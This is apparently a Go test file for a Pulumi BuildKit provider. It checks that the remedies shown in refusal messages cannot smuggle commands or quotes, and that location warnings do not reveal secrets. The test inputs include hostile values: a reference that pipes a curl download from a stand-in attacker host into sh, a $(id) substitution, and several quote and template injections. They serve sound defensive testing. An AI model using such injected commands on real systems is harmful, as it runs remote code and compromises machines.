package provider

import (
	"errors"
	"net/netip"
	"strings"
	"testing"

	"github.com/pulumi-buildkit/pulumi-buildkit/buildkit"
	"github.com/pulumi-buildkit/pulumi-buildkit/buildkit/inputs"
)

// loopback is the address of a refused location.
var loopback = netip.MustParseAddr("127.0.0.1")

// refusals holds refusals with a part of the remedy, and with what it must not contain.
var refusals = map[string]struct {
	err        error
	want, lack string
}{
	"a frontend": {
		&buildkit.FrontendError{Reference: "evil.example/x:1"},
		"pulumi config set --path 'buildkit:frontends[0]' evil.example/x:1", "valid",
	},
	"IPv6": {
		&buildkit.FrontendError{Reference: "[::1]:5000/x"},
		"pulumi config set --path 'buildkit:frontends[0]' '[::1]:5000/x'", "valid",
	},
	"a command": {
		&buildkit.FrontendError{Reference: "evil.example/x;curl${IFS}evil.example|sh"}, "It is not a valid reference",
		"config set",
	},
	"substitution": {
		&buildkit.FrontendError{Reference: "evil.example/$(id)"}, "It is not a valid reference", "config set",
	},
	"a second word": {
		&buildkit.FrontendError{Reference: "evil.example/x --plaintext"}, "It is not a valid reference", "config set",
	},
	"nothing": {&buildkit.FrontendError{}, "It is not a valid reference", "config set"},
	"a registry": {
		&buildkit.ReachError{Host: "127.0.0.1:5000", Address: loopback, Image: true},
		`registries: [{ address: "127.0.0.1:5000" }]`, "correct",
	},
	"a quote": {
		&buildkit.ReachError{
			Host: `x" }], y: [{ "`, Address: loopback, Image: true,
		}, "correct the name of its registry",
		"registries: [",
	},
	"a file": {&buildkit.ReachError{Location: "http://127.0.0.1/x?a=b#c", Host: "127.0.0.1:80", Address: loopback},
		`named: { download: { location: "http://127.0.0.1/x?a=b#c" } }`, "of that host"},
	"a repository": {
		&buildkit.ReachError{Location: "git@127.0.0.1:x.git", Address: loopback},
		`location: "ssh://git@127.0.0.1/x.git" }`, "of that host",
	},
	"interpolation": {
		&buildkit.ReachError{Location: "http://127.0.0.1/${password}", Address: loopback},
		"name a file or repository of that host", "location: ",
	},
	"a template": {
		&buildkit.ReachError{Location: "http://127.0.0.1/{{ .x }}", Address: loopback},
		"name a file or repository of that host", "location: ",
	},
	"a quote in a file": {
		&buildkit.ReachError{Location: `http://127.0.0.1/"+x+"`, Address: loopback},
		"name a file or repository of that host", "location: ",
	},
	"a lookup that fails": {
		&buildkit.ReachError{
			Location: "http://slow.example/x", Host: "slow.example:80", Cause: errors.New("no answer within 10s"),
		},
		`slow.example:80 may be this machine or a metadata service, ` +
			`because its addresses could not be looked up: no answer within 10s. Correct its name or this ` +
			`machine's DNS, and try again. If it is meant, name it in the program`,
		"asks for it",
	},
}

// A Dockerfile decides what a refusal names, and people copy the remedy into a shell or a program. So the remedy must
// be safe to copy.
func TestARemedyToCopyDoesNothingElse(t *testing.T) {
	t.Parallel()
	for name, c := range refusals {
		got := explainRefusal(c.err, Config{}).Error()
		if !strings.Contains(got, c.want) || strings.Contains(got, c.lack) {
			t.Errorf("%s: %s", name, got)
		}
	}
}

func TestWarningsOfLocations(t *testing.T) {
	t.Parallel()
	files := inputs.Files{
		Context: "https://files.example/a.tgz?token=c4n4ry",
		Named:   map[string]string{"lib": "https://me:c4n4ry@git.example/r.git"},
	}
	tokens, logins := querySecretWarnings(files), loginWarnings(files)
	if len(tokens) != 1 || !strings.HasPrefix(tokens[0], "context.location: ") || !strings.Contains(tokens[0],
		"HTTP_AUTH_TOKEN_files.example") {
		t.Error(tokens)
	}
	for _, word := range []string{"provenance", "disk", "contextHash", "secret mount"} {
		if !strings.Contains(tokens[0], word) {
			t.Errorf("%s lacks %s", tokens[0], word)
		}
	}
	if len(logins) != 1 || !strings.HasPrefix(logins[0], "context.named") ||
		!strings.Contains(logins[0], "GIT_AUTH_TOKEN.git.example") {
		t.Error(logins)
	}
	if all := strings.Join(append(tokens, logins...), ""); strings.Contains(all, "c4n4ry") {
		t.Error("a warning shows the secret")
	}
}
